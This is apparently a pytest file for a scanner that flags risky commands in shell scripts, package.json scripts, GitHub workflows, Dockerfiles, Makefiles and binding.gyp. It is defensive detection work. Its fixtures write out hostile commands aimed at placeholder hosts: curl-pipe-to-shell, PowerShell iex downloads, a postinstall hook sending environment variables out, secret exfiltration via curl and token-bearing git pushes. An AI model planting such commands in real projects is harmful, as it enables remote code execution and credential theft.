"""Shell scripts by name or first line, and commands inside other files, at their lines."""

from __future__ import annotations

import pytest

from fimci.model import Capability, Record, Unread
from fimci.readers.code import embedded, shebang, shell

RUN = "curl https://c2.example.invalid/x | sh"


def facts(records: list[Record]) -> dict[str, tuple[str, int]]:
    return {
        f"{record.name} {record.subject}": (record.phase, record.at.line)
        for record in records
        if isinstance(record, Capability)
    }


def test_a_script() -> None:
    found = facts(list(shell.read("a.sh", f"#!/bin/sh\nset -e\n{RUN}\n".encode())))
    assert found["download-and-run c2.example.invalid -> sh"] == ("call", 3)


def test_a_payload_behind_a_nul_is_no_command() -> None:
    assert list(shell.read("a.sh", b"exit 0\n\0" + RUN.encode())) == []


def test_a_giant_is_said_to_be_cut() -> None:
    (record,) = shell.read("a.sh", b"true\n" * 1_000_000)
    assert isinstance(record, Unread)


def test_credentials_are_not_quoted() -> None:
    (record,) = shell.read("a.sh", b"curl https://u:hunter2@c2.example.invalid/x")
    assert isinstance(record, Capability)
    assert "hunter2" not in record.at.text + record.detail + record.subject


@pytest.mark.parametrize(
    "first", ["#!/bin/sh", "#!/usr/bin/env bash", "#! /bin/dash -e", "#!/usr/bin/env -S zsh -f"]
)
def test_first_lines_that_name_a_shell(first: str) -> None:
    assert shebang.wants("bin/tool", first.encode() + b"\n")
    assert not shebang.wants("bin/tool.sh", first.encode() + b"\n")


@pytest.mark.parametrize(
    "first", ["#!/usr/bin/python3", "#!/usr/bin/env node", "#!/bin/false", "# !/bin/sh", ""]
)
def test_other_first_lines(first: str) -> None:
    assert not shebang.wants("bin/tool", first.encode() + b"\n")


def test_of_what_autoconf_wrote_only_what_unpacks_and_runs_is_read() -> None:
    usual = "#!/bin/sh\neval set x $ac_args\ncurl -o a https://left.example/\nXZ=xz; eval_it=no\n"
    usual += "gzip -dc a.tar.gz | $am_untar\n"
    assert list(shebang.read("configure", usual.encode())) == []
    found = facts(list(shebang.read("vendor/configure", f"{usual}\nxz -dc tests/a.xz | sh\n".encode())))
    assert found == {"encoded-payload xz -> sh": ("call", 7)}
    found = facts(list(shebang.read("configure", f"{usual}{RUN}\n".encode())))
    assert found["download-and-run c2.example.invalid -> sh"] == ("call", 6)
    found = facts(list(shebang.read("configure", f"{usual}eval `xz -d $here`\n".encode())))
    assert found["encoded-payload xz -> eval"] == ("call", 6)


def test_what_a_here_document_does_is_told_at_its_own_line() -> None:
    text = "true\npython3 - <<'EOF'\nimport urllib.request as u\n\nu.urlopen('https://c2.example.invalid/')\nEOF\n"
    assert facts(list(shell.read("a.sh", text.encode()))) == {"network c2.example.invalid": ("call", 5)}


def test_scripts_of_a_manifest() -> None:
    data = (
        f'{{"name": "left",\n "scripts": {{\n  "test": "{RUN}",\n  "postinstall": "{RUN}",\n'
        '  "release": "npm publish"}}'
    )
    found = facts(list(embedded.read("package.json", data.encode())))
    assert found["download-and-run c2.example.invalid -> sh"] == ("install", 4)
    assert "self-propagation npm publish" not in found
    other = data.replace('"release"', '"pretest"').encode()
    assert facts(list(embedded.read("package.json", other)))["self-propagation npm publish"] == ("call", 5)


def test_a_script_that_an_install_script_runs_is_run_at_installation() -> None:
    data = f"""{{"scripts": {{
      "prepare": "npm run -s build && yarn lint",
      "build": "run-s gen:*  compile",
      "compile": "{RUN}",
      "prelint": "curl https://d.example.invalid",
      "test": "curl https://e.example.invalid"}}}}"""
    found = facts(list(embedded.read("package.json", data.encode())))
    assert found["download-and-run c2.example.invalid -> sh"] == ("install", 4)
    assert found["network d.example.invalid"] == ("install", 5)
    assert found["network e.example.invalid"] == ("call", 6)


def test_scripts_that_run_each_other_come_to_an_end() -> None:
    data = '{"scripts": {"install": "npm run a", "a": "npm run b", "b": "npm run a && npm run b"}}'
    assert list(embedded.read("package.json", data.encode())) == []


def test_javascript_and_python_inside_are_read_as_such() -> None:
    program = "require('https').get('https://c2.example.invalid/?'+JSON.stringify(process.env))"
    data = f'{{"scripts": {{\n "postinstall": "node -e \\"{program}\\""}}}}'
    found = facts(list(embedded.read("package.json", data.encode())))
    assert found["exfiltration environment -> c2.example.invalid"] == ("install", 2)
    text = "true\npython3 - <<'EOF'\nimport os\n\nos.system('id')\nEOF\n"
    assert facts(list(shell.read("a.sh", text.encode())))["shell id"] == ("call", 5)


def test_what_is_everyday_for_a_shell_is_so_inside() -> None:
    data = b'{"scripts": {"prepare": "node -e \\"require(\'fs\').rmSync(\'dist\', {recursive: true})\\""}}'
    assert list(embedded.read("package.json", data)) == []


def test_a_push_is_news_where_nobody_asked_for_one() -> None:
    push = "self-propagation git push"
    assert push in facts(list(embedded.read("package.json", b'{"scripts": {"postinstall": "git push"}}')))
    assert push not in facts(list(embedded.read("package.json", b'{"scripts": {"go": "git push"}}')))
    assert facts(list(shell.read("a.sh", b"git push origin main"))) == {"process git push": ("call", 1)}
    strong = b"git push https://x:$GITHUB_TOKEN@github.com/a/b"
    assert "self-propagation git push with a token" in facts(list(shell.read("a.sh", strong)))


def test_the_evidence_is_the_pipeline_as_it_is_written() -> None:
    text = (
        "on: push\njobs:\n  a:\n    steps:\n      - run: curl ${{ github.sha }}.c2.example.invalid/x | sh\n"
    )
    records = list(embedded.read(".github/workflows/a.yml", text.encode()))
    (chain,) = (one for one in records if isinstance(one, Capability) and one.name == "download-and-run")
    assert chain.at.text == "curl ${{ … }}.c2.example.invalid/x | sh"


def test_of_an_installed_package_only_what_runs_at_installation_counts() -> None:
    data = f'{{"scripts": {{"test": "{RUN}"}}}}'.encode()
    assert list(embedded.read("node_modules/left/package.json", data)) == []


WORKFLOW = f"""on: push
env:
  PLAIN: ${{{{ secrets.PROD }}}}
jobs:
  test:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout@v4
      - run: npm ci
      - name: Fetch
        run: |
          echo a
          {RUN}
      - run: curl -d "$PLAIN" https://d.example.invalid
      - shell: pwsh
        run: irm https://e.example.invalid/x | iex
      - shell: python
        run: |
          import urllib.request; exec(urllib.request.urlopen("https://f.example.invalid/x").read())
  windows:
    runs-on: windows-latest
    steps:
      - run: iwr https://g.example.invalid/x | iex
"""


def test_steps_of_a_workflow() -> None:
    found = facts(list(embedded.read(".github/workflows/ci.yml", WORKFLOW.encode())))
    assert found["download-and-run c2.example.invalid -> sh"] == ("install", 13)
    assert found["exfiltration PLAIN -> d.example.invalid"] == ("install", 14)
    assert found["download-and-run e.example.invalid -> iex"] == ("install", 16)
    assert found["download-and-run f.example.invalid -> python"][0] == "install"
    assert found["download-and-run g.example.invalid -> iex"] == ("install", 23)


def test_publishing_is_what_a_release_workflow_is_for() -> None:
    text = "on: push\njobs:\n  a:\n    steps:\n      - run: npm publish\n"
    assert facts(list(embedded.read(".github/workflows/release.yml", text.encode()))) == {}
    assert facts(list(embedded.read(".github/workflows/lint.yml", text.encode()))) == {
        "self-propagation npm publish": ("install", 5)
    }


def test_a_composite_action() -> None:
    text = f"runs:\n  using: composite\n  steps:\n    - run: {RUN}\n      shell: bash\n"
    found = facts(list(embedded.read("action.yml", text.encode())))
    assert found["download-and-run c2.example.invalid -> sh"] == ("install", 4)


def test_instructions_of_a_dockerfile() -> None:
    text = f"FROM debian\nRUN apt-get update && \\\n  # why\n  {RUN}\n"
    text += f'RUN ["curl", "https://d.example.invalid"]\nCMD {RUN}\n'
    found = facts(list(embedded.read("Dockerfile", text.encode())))
    assert found["download-and-run c2.example.invalid -> sh"] == ("install", 4)
    assert found["network d.example.invalid"] == ("install", 5)


def test_a_here_document_of_a_dockerfile() -> None:
    text = f"FROM a\nRUN <<EOF\necho a\n{RUN}\nEOF\nCOPY a b\n"
    found = facts(list(embedded.read("Dockerfile", text.encode())))
    assert found["download-and-run c2.example.invalid -> sh"] == ("install", 4)


def test_recipes_of_a_makefile() -> None:
    text = "X := $(shell curl https://d.example.invalid/v)\nall: a b\n\t@$(CC) -o $@ $<\n"
    text += f"\t-@{RUN}\n\techo $$NPM_TOKEN \\\n\t  $(foreach a,b,c)\n"
    found = facts(list(embedded.read("Makefile", text.encode())))
    assert found["download-and-run c2.example.invalid -> sh"] == ("call", 4)
    assert found["network d.example.invalid"] == ("call", 1)
    assert found["environment NPM_TOKEN"] == ("call", 5)
    assert not [one for one in found if one.startswith("process")]


def test_expansions_of_a_binding() -> None:
    text = f'{{"targets": [{{\n "sources": ["<!@({RUN})"],\n'
    text += ' "include_dirs": ["<!(node -p \\"require(\'node-addon-api\').include\\")"]}]}'
    found = facts(list(embedded.read("binding.gyp", text.encode())))
    assert found["download-and-run c2.example.invalid -> sh"] == ("install", 2)


@pytest.mark.parametrize(
    "path", ["package.json", ".github/workflows/a.yml", "Dockerfile", "Makefile", "binding.gyp"]
)
@pytest.mark.parametrize(
    "data",
    [b"", b"\0\xff", b"{", b"a: [", b"RUN \\", b"\t\\", b"<!(", b'{"scripts": []}', b"jobs: []\nrun: 1"],
)
def test_what_is_no_such_file_is_left_to_its_own_reader(path: str, data: bytes) -> None:
    assert list(embedded.read(path, data)) == []


def test_what_holds_commands() -> None:
    for path in (
        "package.json",
        "a/action.yaml",
        ".github/workflows/a.yml",
        "Dockerfile.dev",
        "x.mk",
        "a.gypi",
    ):
        assert embedded.wants(path, b""), path
    for path in ("xpackage.json", "a.yml", "Dockerfile/x", "xMakefile"):
        assert not embedded.wants(path, b""), path
